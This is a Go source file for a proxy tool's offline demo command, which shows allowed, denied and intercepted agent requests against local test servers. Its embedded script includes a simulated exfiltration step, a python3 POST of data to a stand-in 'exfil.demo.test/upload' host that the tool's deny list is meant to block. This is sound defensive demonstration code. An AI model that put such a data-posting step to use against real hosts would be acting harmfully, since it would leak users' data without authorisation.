package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"

	"github.com/spf13/cobra"

	"github.com/chaperone-dev/chaperone/config"
	"github.com/chaperone-dev/chaperone/event"
	"github.com/chaperone-dev/chaperone/internal/upstream"
	"github.com/chaperone-dev/chaperone/session"
	"github.com/chaperone-dev/chaperone/telemetry"
)

func newDemoCommand(e env) *cobra.Command {
	var dir string
	cmd := &cobra.Command{
		Use:   "demo",
		Short: "Show allow, deny and interception end to end, offline",
		Long: "Start two local HTTPS servers (with a CA of their own, on 127.0.0.2 and 127.0.0.3),\n" +
			"run a scripted agent (curl and python3) in a real session, and show an allowed request,\n" +
			"a denied host and an intercepted HTTPS request, then the audit log. Nothing leaves the machine.",
		Args: cobra.NoArgs,
		RunE: func(cmd *cobra.Command, _ []string) error {
			return runDemo(cmd.Context(), e, dir)
		},
	}
	cmd.Flags().StringVar(&dir, "dir", "", "directory for the demo's state and audit log (default: a new temporary directory)")
	return cmd
}

// demoScript is the scripted agent. It reads the servers' URLs from its
// environment and uses only what an agent would: curl and python3.
const demoScript = `
set -u
echo
echo "== 1. curl fetches an allowed API over HTTP/2; the TLS certificate it sees is Chaperone's"
curl -sS --http2 -v "$API_URL/" 2>"$DEMO_DIR/curl.err" -w '   -> HTTP %{http_version} %{http_code}\n'
grep -i '^\* *issuer' "$DEMO_DIR/curl.err" | sed 's/^\* */   certificate /'
echo
echo "== 2. a python3 script the agent wrote tries to post data to a host the policy denies"
python3 - <<'PY'
import os, urllib.request, urllib.error
req = urllib.request.Request(os.environ["EXFIL_URL"] + "/upload", data=b"notes=...", method="POST")
try:
    urllib.request.urlopen(req, timeout=10)
    print("   -> not blocked")
except urllib.error.HTTPError as e:
    print("   -> HTTP", e.code, e.read().decode().strip())
except Exception as e:
    print("   -> refused:", e)
PY
echo
echo "== 3. python3 reads the allowed API through the same session"
python3 -c 'import os, urllib.request; r = urllib.request.urlopen(os.environ["API_URL"] + "/headers", timeout=10); print("   -> HTTP", r.status, r.headers.get_content_type())'
`

func runDemo(ctx context.Context, e env, dir string) error {
	for _, tool := range []string{"sh", "curl", "python3"} {
		if _, err := exec.LookPath(tool); err != nil {
			return fmt.Errorf("demo: needs %s on PATH: %w", tool, err)
		}
	}
	if dir == "" {
		d, err := os.MkdirTemp("", "chaperone-demo-")
		if err != nil {
			return fmt.Errorf("demo: %w", err)
		}
		dir = d
	}
	ca, err := upstream.NewCA("demo-upstream")
	if err != nil {
		return fmt.Errorf("demo: %w", err)
	}
	caFile, err := ca.WriteFile(dir)
	if err != nil {
		return fmt.Errorf("demo: %w", err)
	}
	api, err := upstream.Start(upstream.Options{Name: "api.demo.test", Addr: "127.0.0.2:0", CA: ca})
	if err != nil {
		return fmt.Errorf("demo: %w", err)
	}
	defer api.Close()
	exfil, err := upstream.Start(upstream.Options{Name: "exfil.demo.test", Addr: "127.0.0.3:0", CA: ca})
	if err != nil {
		return fmt.Errorf("demo: %w", err)
	}
	defer exfil.Close()

	cfg := config.Default(e.getenv, os.Geteuid())
	cfg.Mode = config.ModeProxy // the script relies on names only the proxy resolves
	cfg.StateDir = filepath.Join(dir, "state")
	cfg.Log = filepath.Join(dir, "audit.jsonl")
	cfg.DenyHosts = []string{"exfil.demo.test"}
	cfg.UpstreamCA = []string{caFile}
	cfg.Resolve = []string{
		"api.demo.test:" + api.Addr.Addr().String(),
		"exfil.demo.test:" + exfil.Addr.Addr().String(),
	}
	if err := cfg.Validate(); err != nil {
		return fmt.Errorf("demo: %w", err)
	}

	out := e.stdout
	fmt.Fprintf(out, "Chaperone demo (offline). Local upstreams: %s on %s (allowed), %s on %s (denied by deny_hosts).\n",
		api.Name, api.Addr, exfil.Name, exfil.Addr)
	var sessionID string
	demoArgv := []string{"sh", "-c", demoScript}
	demoEnv := e
	demoEnv.stdin = nil
	code, err := runSession(ctx, demoEnv, session.Config{Settings: cfg, Agent: session.AgentName(demoArgv)}, demoArgv,
		append(e.environ(), "API_URL="+api.URL, "EXFIL_URL="+exfil.URL, "DEMO_DIR="+dir), out,
		func(s *session.Session) {
			sessionID = s.ID()
			fmt.Fprintf(out, "Session %s: the agent's HTTP(S)_PROXY points at %s; it trusts Chaperone's CA through %s.\n",
				s.ID(), s.ProxyAddr(), "SSL_CERT_FILE and friends")
		})
	if err != nil {
		return err
	}
	fmt.Fprintf(out, "\nWhat the upstreams received: %s %d request(s), %s %d request(s).\n",
		api.Name, len(api.Requests()), exfil.Name, len(exfil.Requests()))
	fmt.Fprintf(out, "\nThe session in the audit log:\n")
	if err := printSessionEvents(out, cfg.AuditLogPath(), sessionID); err != nil {
		return fmt.Errorf("demo: %w", err)
	}
	fmt.Fprintf(out, "\nAudit log: %s\nSee it again with: chaperone events --log %s\n", cfg.AuditLogPath(), cfg.AuditLogPath())
	if code != 0 {
		return exitError{code}
	}
	if len(exfil.Requests()) != 0 {
		return errors.New("demo: the denied host received a request")
	}
	return nil
}

func printSessionEvents(w io.Writer, path, session string) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	return telemetry.ReadRecords(f, telemetry.Filter{Session: session}, func(r telemetry.Record) error {
		if r.Kind == event.KindTLS {
			return nil
		}
		io.WriteString(w, "  ")
		telemetry.FormatRecord(w, r)
		return nil
	})
}
